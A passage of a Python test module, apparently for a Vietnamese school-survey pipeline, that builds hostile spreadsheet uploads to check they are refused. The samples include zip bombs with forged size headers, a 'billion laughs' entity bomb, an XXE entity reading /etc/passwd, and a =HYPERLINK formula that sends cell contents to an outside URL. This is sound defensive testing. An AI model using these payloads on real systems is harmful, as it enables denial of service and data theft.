@@ -1,0 +1,1032 @@
+"""Hostile and broken uploads: each fails alone, in one line naming the school and the file, before
+anything large is built; the awkward-but-honest ones (legacy encodings, stray cells far away,
+formulas without values, several sheets) load.
+
+The corpus is generated here (``corpus``): real files written with openpyxl, zipfile and
+hand-made bytes, sized against the ``Limits`` they are meant to trip, so the same builders serve
+the fast unit tests (``read_tables`` on each case), the end-to-end test (one ``nightly.run``
+province holding every case beside good schools) and ``benchmarks/hostile_memory.py`` (peak
+memory per case at the default limits).
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import os
+import re
+import struct
+import unicodedata
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import openpyxl
+import pytest
+import sqlalchemy as sa
+from python_calamine import CalamineError, CalamineWorkbook
+
+from flows import nightly
+from flows.read import FormulaWithoutValue, _DtdScan, _read_calamine, read_tables
+from flows.records import SourceError
+from flows.settings import Limits, load_settings
+from flows.workbooks import write_cell
+from schemas import load_questionnaires
+from schemas.questionnaire import SCHEMAS_DIR
+from warehouse import db
+
+Q = load_questionnaires(SCHEMAS_DIR)["CMHS_TH"]
+LABEL = {
+    1: "Rất không hài lòng",
+    2: "Không hài lòng",
+    3: "Bình thường",
+    4: "Hài lòng",
+    5: "Rất hài lòng",
+}
+#: The columns of every generated submission: a Google Forms download of CMHS_TH, cut short.
+CODES = ["TC1", "TC2", "CS1", "CHUNG", "Y_KIEN"]
+HEADERS = ["Dấu thời gian", "Lớp", *(Q.item(c).text for c in CODES)]
+#: Respondent text that a spreadsheet would run as a formula: it must stay text everywhere.
+INJECTIONS = [
+    '=HYPERLINK("http://x.vn/?q="&A1,"Bấm vào đây")',
+    "+ thêm giờ học bơi cho các con",
+    "-Không có ý kiến",
+    "@Ban giám hiệu: cảm ơn nhà trường",
+]
+#: Five respondents: (TC1, TC2, CS1, CHUNG, comment). The last one typed a formula into TC1,
+#: which is an unreadable answer (rejected with its cell), not a formula.
+ANSWERS: list[tuple[object, object, object, object, str]] = [
+    (5, 4, 4, 5, INJECTIONS[0]),
+    (4, 4, 3, 4, INJECTIONS[1]),
+    (3, 5, 4, 4, INJECTIONS[2]),
+    (4, 2, 5, 3, INJECTIONS[3]),
+    ("=1+2", 4, None, 4, ""),
+]
+
+
+def answer_rows(answers: list[tuple[object, object, object, object, str]] = ANSWERS) -> list[list]:
+    """Header row and one row per respondent, as a Forms download holds them (labels)."""
+    rows: list[list] = [list(HEADERS)]
+    for i, (tc1, tc2, cs1, chung, comment) in enumerate(answers):
+        stamp = f"{20 + i}/10/2024 09:{i:02d}:00"
+        cells = [LABEL.get(v, v) if isinstance(v, int) else v for v in (tc1, tc2, cs1, chung)]
+        rows.append([stamp, "5A", *cells, comment])
+    return rows
+
+
+# --------------------------------------------------------------------------------------------
+# Builders: real files
+
+
+def xlsx(rows: list[list], title: str = "Câu trả lời biểu mẫu 1", **sheets: list[list]) -> bytes:
+    """An xlsx written by openpyxl; text starting with "=" stays text (a Forms download stores
+    respondents' text as strings), FormulaWithoutValue cells become formulas with no value."""
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    assert ws is not None
+    ws.title = title
+    for name, extra in [(title, rows), *sheets.items()]:
+        sheet = ws if name == title else wb.create_sheet(name.replace("_", " "))
+        for r, row in enumerate(extra, start=1):
+            for c, value in enumerate(row, start=1):
+                if value is None:
+                    continue
+                cell = sheet.cell(
+                    row=r,
+                    column=c,
+                    value=str(value) if isinstance(value, FormulaWithoutValue) else value,
+                )
+                if (
+                    isinstance(value, str)
+                    and value.startswith("=")
+                    and not isinstance(value, FormulaWithoutValue)
+                ):
+                    cell.data_type = "s"
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+def csv_text(rows: list[list], delimiter: str = ",") -> str:
+    def field(v: object) -> str:
+        text = "" if v is None else str(v)
+        return (
+            f'"{text.replace(chr(34), chr(34) * 2)}"'
+            if any(ch in text for ch in f'"{delimiter}\n')
+            else text
+        )
+
+    return "".join(delimiter.join(field(v) for v in row) + "\r\n" for row in rows)
+
+
+#: The five Vietnamese tone marks, which Windows-1258 stores as combining characters.
+TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}
+
+
+def cp1258(text: str) -> bytes:
+    """Text as Excel saves "CSV" on a Vietnamese Windows: a letter Windows-1258 holds whole
+    stays whole ("à"); otherwise the letter without its tone ("â", "ư" are in the code page)
+    followed by the tone as a combining character: "ấ" is "â" + U+0301."""
+    out = []
+    for ch in text:
+        try:
+            out.append(ch.encode("cp1258"))
+        except UnicodeEncodeError:
+            parts = unicodedata.normalize("NFD", ch)
+            tone = "".join(p for p in parts if p in TONES)
+            base = unicodedata.normalize("NFC", "".join(p for p in parts if p not in TONES))
+            out.append((base + tone).encode("cp1258"))
+    return b"".join(out)
+
+
+def zip_parts(content: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(content)) as zf:
+        return {n: zf.read(n) for n in zf.namelist()}
+
+
+def rezip(parts: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in parts.items():
+            if name == "mimetype":
+                zf.writestr(zipfile.ZipInfo(name), data)  # ods: first and stored
+            else:
+                zf.writestr(name, data)
+    return out.getvalue()
+
+
+def with_sheet_xml(content: bytes, edit: Callable[[bytes], bytes]) -> bytes:
+    """The xlsx with its first worksheet's XML edited."""
+    parts = zip_parts(content)
+    parts["xl/worksheets/sheet1.xml"] = edit(parts["xl/worksheets/sheet1.xml"])
+    return rezip(parts)
+
+
+def add_cells(xml: bytes, cells: str) -> bytes:
+    """Append raw <row>/<c> XML at the end of <sheetData>."""
+    return xml.replace(b"</sheetData>", cells.encode() + b"</sheetData>")
+
+
+def zip_bomb(name: str, size: int, **extra: bytes) -> bytes:
+    """A zip holding ``size`` zero bytes under ``name`` (streamed: never built in memory)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
+        for part, data in {"xl/workbook.xml": b"<workbook/>", **extra}.items():
+            zf.writestr(part, data)
+        with zf.open(name, "w", force_zip64=True) as member:
+            block = b"\0" * (1 << 20)
+            for start in range(0, size, len(block)):
+                member.write(block[: min(len(block), size - start)])
+    return out.getvalue()
+
+
+def lying_header(content: bytes, name: str, declared: int) -> bytes:
+    """The zip with ``name``'s declared size (local and central headers) set to ``declared``
+    and its CRC to that of the first ``declared`` bytes: what a reader trusting the header sees
+    is consistent, but the data inflates to far more."""
+    with zipfile.ZipFile(io.BytesIO(content)) as zf:
+        info = zf.getinfo(name)
+        crc = zlib.crc32(zf.read(name)[:declared])
+    buf = bytearray(content)
+    struct.pack_into("<L", buf, info.header_offset + 14, crc)
+    struct.pack_into("<L", buf, info.header_offset + 22, declared)
+    at = 0
+    while (at := buf.find(b"PK\x01\x02", at)) >= 0:
+        n = struct.unpack_from("<H", buf, at + 28)[0]
+        if bytes(buf[at + 46 : at + 46 + n]).decode() == name:
+            struct.pack_into("<L", buf, at + 16, crc)
+            struct.pack_into("<L", buf, at + 24, declared)
+        at += 4
+    return bytes(buf)
+
+
+_SST = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+
+
+def billion_laughs() -> bytes:
+    """sharedStrings.xml declaring the classic ten-level entity bomb (3 GB once expanded)."""
+    levels = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
+    dtd = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY l0 "lol">{levels}]>'
+    sst = f'{dtd}<sst xmlns="{_SST}" count="1" uniqueCount="1"><si><t>&l9;</t></si></sst>'
+    parts = zip_parts(xlsx(answer_rows()))
+    parts["xl/sharedStrings.xml"] = sst.encode()
+    return rezip(parts)
+
+
+def external_entity() -> bytes:
+    """A sheet whose cell text is an external entity (XXE: would read a local file)."""
+    dtd = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    return with_sheet_xml(
+        xlsx(answer_rows()),
+        lambda xml: dtd.encode() + xml[xml.index(b"<worksheet") :].replace(b"5A", b"&x;", 1),
+    )
+
+
+def cfb(streams: dict[str, bytes]) -> bytes:
+    """A minimal but well-formed OLE2 compound file (version 3, 512-byte sectors) holding
+    ``streams``, each padded to 4,096 bytes so it lives in regular sectors."""
+    end, free, fat_sector, none = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
+    datas = [data.ljust(4096, b"\0") for data in streams.values()]
+    fat = [fat_sector, end]  # sector 0: the FAT, sector 1: the directory
+    starts = []
+    for data in datas:
+        first, n = len(fat), len(data) // 512
+        starts.append(first)
+        fat += [*range(first + 1, first + n), end]
+    fat += [free] * (128 - len(fat))
+    header = struct.pack(
+        "<8s16sHHHHH6sIIIIIIIII",
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
+        b"\0" * 16,
+        0x3E,
+        3,
+        0xFFFE,
+        9,
+        6,
+        b"\0" * 6,
+        0,
+        1,
+        1,
+        0,
+        4096,
+        end,
+        0,
+        end,
+        0,
+    ) + struct.pack("<109I", 0, *[free] * 108)
+
+    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
+        encoded = (name + "\0").encode("utf-16-le") if name else b""
+        return struct.pack(
+            "<64sHBBIII16sIQQIQ",
+            encoded.ljust(64, b"\0"),
+            len(encoded),
+            kind,
+            1,
+            none,
+            right,
+            child,
+            b"\0" * 16,
+            0,
+            0,
+            0,
+            start,
+            size,
+        )
+
+    entries = [entry("Root Entry", 5, 1, none, end, 0)]
+    for i, (name, data) in enumerate(streams.items()):
+        right = i + 2 if i + 1 < len(streams) else none
+        entries.append(entry(name, 2, none, right, starts[i], len(data)))
+    directory = b"".join(entries).ljust(512, b"\0")
+    return header + struct.pack("<128I", *fat) + directory + b"".join(datas)
+
+
+def encrypted_xlsx() -> bytes:
+    """What Excel writes for an xlsx with a password: an OLE2 file holding EncryptionInfo and
+    EncryptedPackage (the zip, encrypted) instead of a zip."""
+    info = b"\x04\x00\x04\x00\x40\x00\x00\x00" + b'<?xml version="1.0"?><encryption/>'
+    return cfb(
+        {"EncryptionInfo": info, "EncryptedPackage": struct.pack("<Q", 9000) + os.urandom(3000)}
+    )
+
+
+def encrypted_xls() -> bytes:
+    """A BIFF8 workbook stream whose BOF is followed by FILEPASS (RC4): an xls with a password."""
+    bof = b"\x09\x08\x10\x00" + b"\x00\x06\x05\x00" + b"\x00" * 12
+    filepass = b"\x2f\x00\x36\x00" + b"\x01\x00\x01\x00\x01\x00" + os.urandom(48)
+    return cfb({"Workbook": bof + filepass + os.urandom(200)})
+
+
+_ODS_NS = (
+    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
+)
+
+
+def ods_cell(value: object, repeat: int = 1) -> str:
+    rep = f' table:number-columns-repeated="{repeat}"' if repeat > 1 else ""
+    if value is None:
+        return f"<table:table-cell{rep}/>"
+    if isinstance(value, FormulaWithoutValue):  # a formula nobody computed: no value type
+        return f'<table:table-cell{rep} table:formula="of:{value}"/>'
+    if isinstance(value, int | float):
+        return (
+            f'<table:table-cell{rep} office:value-type="float" office:value="{value}">'
+            f"<text:p>{value}</text:p></table:table-cell>"
+        )
+    text = str(value).replace("&", "&amp;").replace("<", "&lt;")
+    return (
+        f'<table:table-cell{rep} office:value-type="string"><text:p>{text}</text:p>'
+        "</table:table-cell>"
+    )
+
+
+def ods(
+    rows: list[list], tail: str = "", name: str = "Trang tính1", manifest_extra: str = ""
+) -> bytes:
+    """A hand-made ods (what LibreOffice writes, minus styles); ``tail`` is raw row XML."""
+    body = "".join(
+        "<table:table-row>" + "".join(ods_cell(v) for v in row) + "</table:table-row>"
+        for row in rows
+    )
+    content = (
+        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODS_NS} '
+        f'office:version="1.2"><office:body><office:spreadsheet><table:table table:name="{name}">'
+        f"{body}{tail}</table:table></office:spreadsheet></office:body></office:document-content>"
+    )
+    manifest = (
+        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
+        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/'
+        f'vnd.oasis.opendocument.spreadsheet"/>{manifest_extra}</manifest:manifest>'
+    )
+    return rezip(
+        {
+            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
+            "META-INF/manifest.xml": manifest.encode(),
+            "content.xml": content.encode(),
+        }
+    )
+
+
+def encrypted_ods() -> bytes:
+    """LibreOffice's "save with password": the manifest names the cipher of each part."""
+    encryption = (
+        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
+        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x">'
+        '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" '
+        'manifest:initialisation-vector="x"/>'
+        "</manifest:encryption-data></manifest:file-entry>"
+    )
+    parts = zip_parts(ods(answer_rows(), manifest_extra=encryption))
+    parts["content.xml"] = os.urandom(2000)  # encrypted: noise to anyone without the key
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
+        for name, data in parts.items():
+            zf.writestr(name, data)
+    return out.getvalue()
+
+
+def png() -> bytes:
+    """A real 1×1 PNG (a photo of the paper form, renamed .xls)."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+        )
+
+    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", ihdr)
+        + chunk(b"IDAT", zlib.compress(b"\0\xff\xff\xff"))
+        + chunk(b"IEND", b"")
+    )
+
+
+DRIVE_WARNING = b"""<!DOCTYPE html><html><head><meta http-equiv="content-type" content="text/html; \
+charset=utf-8"/><title>Google Drive - Virus scan warning</title><style>.uc-main{padding-top:50px}\
+</style></head><body><div class="uc-main"><div id="uc-text"><p class="uc-warning-caption">Google \
+Drive can't scan this file for viruses.</p><p class="uc-warning-subcaption">phieu_khao_sat.xlsx \
+(38M) is too large for Google to scan for viruses.</p><form id="download-form" \
+action="https://drive.usercontent.google.com/download" method="get"><input type="submit" \
+id="uc-download-link" value="Download anyway"/></form></div></div></body></html>"""
+
+PDF = (
+    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
+    b"2 0 obj<</Type/Pages/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+)
+JPEG = (
+    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
+    + bytes(range(256)) * 4
+    + b"\xff\xd9"
+)
+EXCEL_2003_XML = b"""<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook \
+xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:\
+spreadsheet"><Worksheet ss:Name="Sheet1"><Table><Row><Cell><Data ss:Type="String">TC1</Data></Cell>\
+</Row></Table></Worksheet></Workbook>"""
+
+
+# --------------------------------------------------------------------------------------------
+# The corpus
+
+
+@dataclass(frozen=True)
+class Case:
+    """One upload: ``reason`` is a fragment of the one-line failure, None when it must load."""
+
+    name: str
+    filename: str
+    content: bytes
+    reason: str | None
+    #: the `#sheet` of its location in sources.csv, if any.
+    sheet: str | None = None
+
+
+def corpus(limits: Limits) -> list[Case]:
+    """Every case, sized against ``limits`` (the end-to-end test uses small ones, the memory
+    benchmark the defaults)."""
+    rows = answer_rows()
+    good = xlsx(rows)
+    sheet_xml = zip_parts(good)["xl/worksheets/sheet1.xml"]
+    # Damage inside the sheet's deflated data, where only inflating it can tell.
+    with zipfile.ZipFile(io.BytesIO(good)) as zf:
+        info = zf.getinfo("xl/worksheets/sheet1.xml")
+    corrupt = bytearray(good)
+    at = info.header_offset + 30 + len(info.filename) + info.compress_size // 2
+    corrupt[at : at + 8] = b"\xff" * 8
+    below = limits.max_rows + 1
+    # Rows enough that one value at column XFD makes the rectangle exceed max_cells.
+    wide = xlsx([*rows, *[["x"]] * (limits.max_cells // 16_384 + 1)])
+    vietnamese = answer_rows(
+        [(4, 5, 4, 4, "Cơ sở vật chất tốt, thầy cô nhiệt tình"), (5, 5, 3, 5, "Ủng hộ")]
+    )
+    text = csv_text(vietnamese)
+    damaged_utf8 = text.encode()[:-30] + b"\xc3\x28" + text.encode()[-30:]
+    tab_text = csv_text(vietnamese, "\t")
+    bomb_tail = (
+        f'<table:table-row table:number-rows-repeated="{limits.max_rows // 2}">'
+        f"{ods_cell(1, repeat=1000)}</table:table-row>"
+    )
+    far_blank = f"<table:table-row>{ods_cell(None, 16000)}{ods_cell(' ')}</table:table-row>"
+
+    def sheet(edit: Callable[[bytes], bytes], base: bytes = good) -> bytes:
+        return with_sheet_xml(base, edit)
+
+    return [
+        # -- unusable files
+        Case("empty", "trong.xlsx", b"", "the file is empty"),
+        Case(
+            "drive_warning_page",
+            "tai_ve.xlsx",
+            DRIVE_WARNING,
+            "a web page (HTML) saved with a spreadsheet name (page title 'Google Drive - Virus "
+            "scan warning')",
+        ),
+        Case("pdf_named_xls", "ban_scan.xls", PDF, "not a spreadsheet (a PDF document)"),
+        Case("png_named_xls", "anh_chup.xls", png(), "not a spreadsheet (a PNG image)"),
+        Case("jpeg_named_xlsx", "anh.xlsx", JPEG, "not a spreadsheet (a JPEG image)"),
+        Case("excel_2003_xml", "bao_cao.xls", EXCEL_2003_XML, "an Excel 2003 XML spreadsheet"),
+        Case("truncated_zip", "tai_do.xlsx", good[: len(good) // 2], "damaged file"),
+        Case("corrupt_zip", "hong.xlsx", bytes(corrupt), "damaged file (part xl/worksheets/"),
+        Case("password_xlsx", "mat_khau.xlsx", encrypted_xlsx(), "password-protected"),
+        Case("password_xls", "mat_khau.xls", encrypted_xls(), "password-protected"),
+        Case("password_ods", "mat_khau.ods", encrypted_ods(), "password-protected"),
+        Case("unknown_encoding", "ma_la.csv", b"L\x81p,\x8dTC1\r\n5A,4\r\n", "unknown encoding"),
+        Case("damaged_utf8", "hong.csv", damaged_utf8, "damaged UTF-8 text"),
+        # -- limits and bombs
+        Case(
+            "file_too_big",
+            "qua_lon.csv",
+            b"a,b\r\n" + b"1,2\r\n" * (limits.max_file_bytes // 5 + 1),
+            "(limits.max_file_bytes)",
+        ),
+        Case(
+            "zip_bomb_size",
+            "bom_kich_thuoc.xlsx",
+            zip_bomb("xl/worksheets/sheet1.xml", limits.max_uncompressed_bytes + 1),
+            "(limits.max_uncompressed_bytes)",
+        ),
+        Case(
+            "zip_bomb_ratio",
+            "bom_ty_le.xlsx",
+            zip_bomb("xl/worksheets/sheet1.xml", min(5_000_000, limits.max_uncompressed_bytes)),
+            "(limits.max_compression_ratio)",
+        ),
+        Case(
+            "zip_bomb_lying_header",
+            "bom_gia.xlsx",
+            lying_header(
+                sheet(lambda xml: xml + b" " * min(50_000_000, limits.max_uncompressed_bytes)),
+                "xl/worksheets/sheet1.xml",
+                len(sheet_xml),
+            ),
+            "unpacks to more than the",
+        ),
+        Case("billion_laughs", "cuoi.xlsx", billion_laughs(), "declares a DTD"),
+        Case("external_entity", "xxe.xlsx", external_entity(), "declares a DTD"),
+        Case(
+            "rows_over_limit",
+            "nhieu_dong.xlsx",
+            sheet(
+                lambda xml: add_cells(xml, f'<row r="{below}"><c r="A{below}"><v>1</v></c></row>')
+            ),
+            f"has data down to row {below:,}, more than the limit of {limits.max_rows:,} rows "
+            "(limits.max_rows)",
+        ),
+        Case(
+            "cells_over_limit",
+            "rong.xlsx",
+            sheet(lambda xml: xml.replace(b"</row>", b'<c r="XFD1"><v>7</v></c></row>', 1), wide),
+            "columns (to XFD",
+        ),
+        Case(
+            "cell_bomb",
+            "o_xa.xlsx",
+            sheet(lambda xml: xml.replace(b'<c r="B2" ', b'<c r="B3000000000" ', 1)),
+            "has data down to row 3,000,000,000",
+        ),
+        Case("ods_repeat_bomb", "lap.ods", ods(rows, tail=bomb_tail), "(limits.max_cells)"),
+        # -- awkward but honest: these load
+        Case("good_xlsx", "phieu.xlsx", good, None),
+        Case("good_csv", "phieu.csv", ("\ufeff" + csv_text(rows)).encode(), None),
+        Case("good_vietnamese_csv", "phieu_utf8.csv", text.encode(), None),
+        Case("cp1258_csv", "phieu_1258.csv", cp1258(text), None),
+        Case("utf16_unicode_text", "phieu_unicode.txt", tab_text.encode("utf-16"), None),
+        Case("utf16_without_bom", "phieu_utf16.csv", tab_text.encode("utf-16-le"), None),
+        Case(
+            "blank_at_xfd1",
+            "o_xfd1.xlsx",
+            sheet(lambda xml: xml.replace(b"</row>", _XFD1_BLANK + b"</row>", 1)),
+            None,
+        ),
+        Case(
+            "blank_at_xfd1048576",
+            "dinh_dang.xlsx",
+            sheet(lambda xml: add_cells(xml, _XFD_LAST_BLANK)),
+            None,
+        ),
+        Case(
+            "used_range_claim",
+            "pham_vi.xlsx",
+            sheet(lambda xml: xml.replace(b"<sheetData>", _DIMENSION + b"<sheetData>")),
+            None,
+        ),
+        Case("formulas_without_values", "cong_thuc.xlsx", xlsx(formula_rows()), None),
+        Case("ods_formulas_far_blank", "cong_thuc.ods", ods(formula_rows(), tail=far_blank), None),
+        Case(
+            "several_sheets",
+            "nhieu_trang.xlsx",
+            xlsx([["Hướng dẫn điền phiếu"]], "HD", Phieu=rows),
+            None,
+        ),
+        Case(
+            "configured_sheet",
+            "chon.xlsx",
+            xlsx(answer_rows(ANSWERS[:2]), "Phiếu cũ", Phieu_moi=rows),  # the old one: 2 rows
+            None,
+            "Phieu moi",
+        ),
+        # -- readable, but not this questionnaire's: parse says what it expected and found
+        Case(
+            "no_header",
+            "khong_tieu_de.xlsx",
+            xlsx([["Họ tên", "Điểm"], ["A", 7]], title="Bảng điểm"),
+            "no sheet holds the headers of CMHS_TH",
+        ),
+        Case(
+            "missing_sheet",
+            "thieu_trang.xlsx",
+            xlsx(rows, title="Phiếu"),
+            "sheet 'Phieu 2' not found; the file has sheets 'Phiếu'",
+            "Phieu 2",
+        ),
+        Case(
+            "sheet_without_header",
+            "sai_trang.xlsx",
+            xlsx([["Ghi chú"]], title="Ghi chú", Phieu=rows),
+            "sheet 'Ghi chú': no header row of CMHS_TH",
+            "Ghi chú",
+        ),
+    ]
+
+
+_XFD1_BLANK = b'<c r="XFD1" t="inlineStr"><is><t> </t></is></c>'
+_XFD_LAST_BLANK = (
+    '<row r="1048576"><c r="XFD1048576" s="0" t="inlineStr"><is><t>  </t></is></c></row>'
+)
+_DIMENSION = b'<dimension ref="A1:XFD1048576"/>'
+
+
+def formula_rows() -> list[list]:
+    """The good answers, with two answers left as formulas nobody computed (openpyxl writes
+    formulas without a cached value; so do some report generators)."""
+    rows = answer_rows(ANSWERS[:4])
+    rows[1][2] = FormulaWithoutValue("=4+1")  # TC1 of the first respondent
+    rows[3][5] = FormulaWithoutValue("=B2")  # CHUNG of the third
+    return rows
+
+
+#: Small limits, so the bombs built to exceed them stay small and quick.
+SMALL = Limits(
+    max_file_bytes=2_000_000, max_uncompressed_bytes=20_000_000, max_rows=2_000, max_cells=100_000
+)
+#: The same limits, as khaosat.yaml states them for the end-to-end province.
+LIMITS_YAML = """\
+limits:
+  max_file_bytes: 2000000
+  max_uncompressed_bytes: 20000000
+  max_compression_ratio: 100
+  max_rows: 2000
+  max_cells: 100000
+"""
+CASES = corpus(SMALL)
+#: Cases that read_tables reads: only parse, knowing the questionnaire, can refuse them.
+PARSE_CASES = {"no_header", "missing_sheet", "sheet_without_header"}
+BY_NAME = {c.name: c for c in CASES}
+
+
+def one_line_naming(message: str, filename: str) -> None:
+    assert message.startswith(f"{filename}: "), message
+    assert "\n" not in message and "Traceback" not in message
+
+
+# --------------------------------------------------------------------------------------------
+# read_tables, case by case
+
+
+@pytest.mark.parametrize(
+    "case", [c for c in CASES if c.reason and c.name not in PARSE_CASES], ids=lambda c: c.name
+)
+def test_unusable_upload_fails_in_one_line(case: Case) -> None:
+    with pytest.raises(SourceError) as err:
+        read_tables(case.content, case.filename, SMALL)
+    one_line_naming(str(err.value), case.filename)
+    assert case.reason is not None and case.reason in str(err.value)
+
+
+@pytest.mark.parametrize(
+    "case", [c for c in CASES if not c.reason or c.name in PARSE_CASES], ids=lambda c: c.name
+)
+def test_awkward_upload_is_read(case: Case) -> None:
+    tables = read_tables(case.content, case.filename, SMALL)
+    assert any(t.rows for t in tables)
+
+
+def rows_of(name: str, sheet: int = 0) -> list[list]:
+    case = BY_NAME[name]
+    return read_tables(case.content, case.filename, SMALL)[sheet].rows
+
+
+def test_legacy_encodings_read_as_their_utf8_twin() -> None:
+    """cp1258 (tone marks as combining characters) and UTF-16 (Excel's "Unicode text", tab
+    separated, with or without BOM) give exactly the rows of the same CSV saved as UTF-8."""
+    utf8 = rows_of("good_vietnamese_csv")
+    assert utf8[0][2] == Q.item("TC1").text
+    assert utf8[1][6] == "Cơ sở vật chất tốt, thầy cô nhiệt tình"
+    for name in ("cp1258_csv", "utf16_unicode_text", "utf16_without_bom"):
+        rows = rows_of(name)
+        assert rows == utf8, name
+        assert all(
+            unicodedata.is_normalized("NFC", v) for row in rows for v in row if isinstance(v, str)
+        )
+
+
+def test_cp1258_stores_tone_marks_as_combining_characters() -> None:
+    # Why read.py composes: "ứ" is "ư" (0xFD) + combining acute (0xEC) in Windows-1258.
+    assert cp1258("ứ") == b"\xfd\xec"
+    assert b"\xfd\xec".decode("cp1258") == "ư\u0301"
+
+
+@pytest.mark.parametrize("name", ["blank_at_xfd1", "blank_at_xfd1048576", "used_range_claim"])
+def test_far_blank_cells_and_used_range_claims_cost_nothing(name: str) -> None:
+    """A blank cell at XFD1 or XFD1048576, or a <dimension> claiming the whole sheet: the real
+    rows come back, and max_cells=100 proves calamine never allocated the far rectangle."""
+    case = BY_NAME[name]
+    tables = read_tables(case.content, case.filename, Limits(max_cells=100))
+    assert tables[0].rows == read_tables(BY_NAME["good_xlsx"].content, "g.xlsx", SMALL)[0].rows
+    assert len(tables[0].rows[0]) == len(HEADERS)
+
+
+def test_far_blank_ods_cell_is_cut() -> None:
+    case = BY_NAME["ods_formulas_far_blank"]
+    rows = read_tables(case.content, case.filename, Limits(max_cells=100))[0].rows
+    assert len(rows) == len(formula_rows()) and len(rows[0]) == len(HEADERS)
+
+
+@pytest.mark.parametrize("name", ["formulas_without_values", "ods_formulas_far_blank"])
+def test_formulas_without_values_are_marked_not_blank(name: str) -> None:
+    rows = rows_of(name)
+    assert rows[1][2] == FormulaWithoutValue("=4+1")
+    assert isinstance(rows[1][2], FormulaWithoutValue)
+    assert isinstance(rows[3][5], FormulaWithoutValue)
+    assert rows[2][2] == "Hài lòng"
+
+
+def test_value_far_out_is_refused_before_calamine() -> None:
+    """calamine would allocate the rectangle first (192 GB for B3000000000: an abort of the
+    whole process, not an exception); the XML check refuses it first, at the default limits."""
+    case = BY_NAME["cell_bomb"]
+    with pytest.raises(SourceError, match=r"row 3,000,000,000, more than the limit of 200,000"):
+        read_tables(case.content, case.filename, Limits())
+    lower = with_sheet_xml(BY_NAME["good_xlsx"].content, lambda x: x.replace(b'r="B2"', b'r="b9"'))
+    # calamine reads a lower-case reference too ("b9" is B9): so does the check.
+    assert read_tables(lower, "f.xlsx", Limits())[0].rows[8][1] == "5A"
+
+
+def test_a_few_far_cells_with_values_are_measured_exactly() -> None:
+    """Values outside the quick bound (here: cells written out of order) go through the exact
+    walk, which accepts them when the real rectangle is within the limits."""
+    content = with_sheet_xml(
+        BY_NAME["good_xlsx"].content,
+        lambda xml: xml.replace(
+            b"<sheetData>", b'<sheetData><row r="40"><c r="J40"><v>9</v></c></row>'
+        ),
+    )
+    rows = read_tables(content, "f.xlsx", Limits(max_cells=400))[0].rows
+    assert (len(rows), len(rows[0]), rows[39][9]) == (40, 10, 9.0)
+    with pytest.raises(
+        SourceError,
+        match=r"spans 40 rows × 10 columns \(to J40\), more than the limit of 399 cells "
+        r"\(limits.max_cells\)",
+    ):
+        read_tables(content, "f.xlsx", Limits(max_cells=399))
+
+
+def test_every_limit_names_its_setting() -> None:
+    messages = {
+        name: _failure(BY_NAME[name])
+        for name in (
+            "file_too_big",
+            "zip_bomb_size",
+            "zip_bomb_ratio",
+            "rows_over_limit",
+            "cells_over_limit",
+            "ods_repeat_bomb",
+        )
+    }
+    for setting, name in [
+        ("max_file_bytes", "file_too_big"),
+        ("max_uncompressed_bytes", "zip_bomb_size"),
+        ("max_compression_ratio", "zip_bomb_ratio"),
+        ("max_rows", "rows_over_limit"),
+        ("max_cells", "cells_over_limit"),
+        ("max_cells", "ods_repeat_bomb"),
+    ]:
+        assert messages[name].endswith(f"(limits.{setting})"), messages[name]
+    csv_cells = "a,b,c\r\n" * 40
+    with pytest.raises(
+        SourceError,
+        match=r"more than the limit of 100 cells \(reached at row 34\) \(limits.max_cells\)",
+    ):
+        read_tables(csv_cells.encode(), "p.csv", Limits(max_cells=100))
+
+
+def _failure(case: Case) -> str:
+    with pytest.raises(SourceError) as err:
+        read_tables(case.content, case.filename, SMALL)
+    return str(err.value)
+
+
+def test_calamine_alone_never_expands_entities_or_trusts_lying_sizes() -> None:
+    """Defence in depth, and why read.py's messages matter: calamine (quick-xml, Rust's zip)
+    refuses these too, but with messages a data officer cannot act on."""
+    for name in ("billion_laughs", "external_entity", "zip_bomb_lying_header"):
